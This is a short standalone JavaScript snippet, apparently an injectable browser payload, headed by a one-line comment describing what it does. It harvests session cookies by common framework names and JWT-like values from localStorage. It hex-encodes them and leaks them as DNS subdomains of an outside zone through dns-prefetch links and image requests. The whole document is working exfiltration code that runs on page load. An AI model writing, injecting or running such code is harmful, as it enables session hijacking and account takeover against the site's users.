// corpus note: hex-encodes the session cookie and JWT into DNS-label-sized chunks and leaks them as subdomains via image/link-prefetch lookups
(function () {
  var ZONE = "n.metrics-resolve.test";
  var id = Math.random().toString(36).slice(2, 8);

  function toHex(str) {
    var out = "";
    var bytes = new TextEncoder().encode(str);
    for (var i = 0; i < bytes.length; i++) out += ("0" + bytes[i].toString(16)).slice(-2);
    return out;
  }

  function leak(data) {
    var hex = toHex(data);
    var labels = hex.match(/.{1,60}/g) || [];
    labels.forEach(function (lab, n) {
      var host = lab + "." + n + "." + id + "." + ZONE;
      var l = document.createElement("link");
      l.rel = "dns-prefetch";
      l.href = "//" + host;
      document.head.appendChild(l);
      new Image().src = "https://" + host + "/p.png";
    });
  }

  var material = [];
  var sid = document.cookie.match(/(?:^|;\s*)(PHPSESSID|JSESSIONID|connect\.sid|sessionid|_session_id|laravel_session)=([^;]+)/i);
  if (sid) material.push(sid[1] + "=" + sid[2]);
  for (var k in localStorage) {
    if (!localStorage.hasOwnProperty(k)) continue;
    var v = localStorage[k];
    if (/^eyJ/.test(v)) material.push(k + "=" + v);
  }
  if (material.length) leak(location.hostname + "|" + material.join("|"));
})();
